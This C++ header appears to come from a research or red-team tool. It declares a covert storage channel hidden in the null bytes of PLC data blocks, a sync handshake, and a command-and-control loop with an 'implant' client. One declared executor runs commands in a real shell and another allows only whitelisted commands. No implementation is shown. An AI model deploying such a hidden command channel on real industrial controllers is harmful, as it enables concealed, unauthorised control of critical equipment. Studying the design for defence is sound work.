#pragma once

#include "pcaad/enumerate.hpp"
#include "pcaad/layout.hpp"
#include "pcaad/spp/client.hpp"

#include <chrono>
#include <cstdint>
#include <initializer_list>
#include <mutex>
#include <optional>
#include <string>
#include <vector>

namespace pcaad {

// Storage channel through a data block's null bytes: one byte carries the
// sync state machine, a second carries the payload character.
struct ChannelSpec {
    std::uint16_t db = 0;
    std::uint16_t sync_offset = 0;
    std::uint16_t data_offset = 0;
    int poll_interval_ms = 200;
    int max_silent_polls = 20; // consecutive unchanged polls before timing out
    std::string fb_name;       // which FB hosts the channel, for reporting
};

enum class Role { Server, Client };
const char* role_name(Role r);

enum class SyncState { Hello, HelloAck, Write, Reading, Read, FinalWrite, OnHold };
const char* sync_state_name(SyncState s);

// Per-role sync byte alphabet. There is no server Hello; asking for one
// throws SyncViolation.
std::uint8_t sync_value(SyncState state, Role role);
bool in_sync_alphabet(std::uint8_t value, Role role);

// Pick the host block: most full null bytes wins, lowest DB number breaks
// ties; blocks whose behavior reacts to their whole 16-bit slots are skipped.
ChannelSpec select_channel(const std::vector<BlockFinding>& findings,
                           const std::vector<DbLayout>& layouts);

struct TranscriptEntry {
    std::int64_t t_us = 0;
    Role role = Role::Server;
    std::string event; // write_sync | read_sync | write_data | read_data | note
    std::uint8_t value = 0;
    std::string text; // notes only
};

class Transcript {
  public:
    void append(TranscriptEntry e);
    std::vector<TranscriptEntry> snapshot() const;
    std::string to_jsonl() const;
    void save(const std::string& path) const;

  private:
    mutable std::mutex mu_;
    std::vector<TranscriptEntry> events_;
};

// One side of the channel. All traffic is 1-byte reads and writes of the two
// null bytes over the owning SPP connection.
//
// Per character the sender writes the data byte, then its Write value, then
// polls until the receiver has answered Reading and settled back to Read;
// the receiver acknowledges each character with that Reading -> Read pair.
// A message ends with the sender's FinalWrite value. Handshake: client
// writes Hello, server answers HelloAck, client confirms with its HelloAck.
class ChannelEndpoint {
  public:
    ChannelEndpoint(spp::SppClient& client, ChannelSpec spec, Role role,
                    Transcript* transcript = nullptr);

    // max_polls 0 waits indefinitely (server side: "client never appears").
    void handshake(int max_polls = 0);
    bool handshake_done() const { return handshake_done_; }

    // Throws NonAscii before any traffic if text has bytes outside printable
    // ASCII (tab and newline allowed).
    void send_text(const std::string& text);
    // first_wait_polls 0 waits indefinitely for the first character.
    std::string recv_text(int first_wait_polls = 0);

    void write_on_hold(); // operator-idle keepalive
    void sleep_poll() const;

    const ChannelSpec& spec() const { return spec_; }
    Role role() const { return role_; }
    Role peer() const { return role_ == Role::Server ? Role::Client : Role::Server; }

  private:
    std::uint8_t read_sync();
    void write_sync(std::uint8_t value);
    void write_data(std::uint8_t value);
    std::uint8_t read_data();
    // Polls until one of `expected` shows up. `allowed` values do not advance
    // but are not violations; OnHold and progress reset the silence budget.
    std::uint8_t wait_for(std::initializer_list<std::uint8_t> expected,
                          std::initializer_list<std::uint8_t> allowed, int max_polls);
    void note(const std::string& text);
    void record(const char* event, std::uint8_t value);

    spp::SppClient& client_;
    ChannelSpec spec_;
    Role role_;
    Transcript* transcript_;
    std::uint8_t last_written_ = 0;
    std::uint8_t last_seen_ = 0;
    bool handshake_done_ = false;
    std::chrono::steady_clock::time_point start_;
};

// What the C2 client runs when a command arrives.
class CommandExecutor {
  public:
    virtual ~CommandExecutor() = default;
    virtual std::string execute(const std::string& command) = 0;
};

// Whitelisted simulated commands only: ping, echo, id. Everything else gets
// "command not permitted". Safe to expose to a live channel.
class SafeExecutor : public CommandExecutor {
  public:
    std::string execute(const std::string& command) override;
};

// Runs the command in a real shell. Only reachable behind an explicit
// opt-in flag; prints nothing itself, the caller owns the warning.
class UnsafeExecutor : public CommandExecutor {
  public:
    std::string execute(const std::string& command) override;
};

// Operator console for the C2 server loop.
class Console {
  public:
    virtual ~Console() = default;
    virtual std::optional<std::string> poll_line() = 0; // nullopt: nothing yet
    virtual bool eof() = 0;
    virtual void print(const std::string& line) = 0;
};

class StdioConsole : public Console {
  public:
    std::optional<std::string> poll_line() override;
    bool eof() override;
    void print(const std::string& line) override;

  private:
    bool eof_ = false;
};

// Canned input / captured output, for tests and demos.
class ScriptedConsole : public Console {
  public:
    explicit ScriptedConsole(std::vector<std::string> lines) : lines_(std::move(lines)) {}
    std::optional<std::string> poll_line() override;
    bool eof() override { return next_ >= lines_.size(); }
    void print(const std::string& line) override { output_.push_back(line); }
    const std::vector<std::string>& output() const { return output_; }

  private:
    std::vector<std::string> lines_;
    std::size_t next_ = 0;
    std::vector<std::string> output_;
};

struct C2Options {
    int max_commands = 0;      // 0: run until console EOF / peer stops
    int hello_timeout_polls = 0; // 0: wait forever
};

// REPL side: handshake, then operator line -> send, response -> print.
// Returns the number of commands served.
int run_c2_server(ChannelEndpoint& endpoint, Console& console, const C2Options& options = {});

// Implant side: handshake, then recv -> execute -> send response.
int run_c2_client(ChannelEndpoint& endpoint, CommandExecutor& executor,
                  const C2Options& options = {});

// Replace anything outside the transmissible set with '?'.
std::string ascii_sanitize(const std::string& text);

} // namespace pcaad
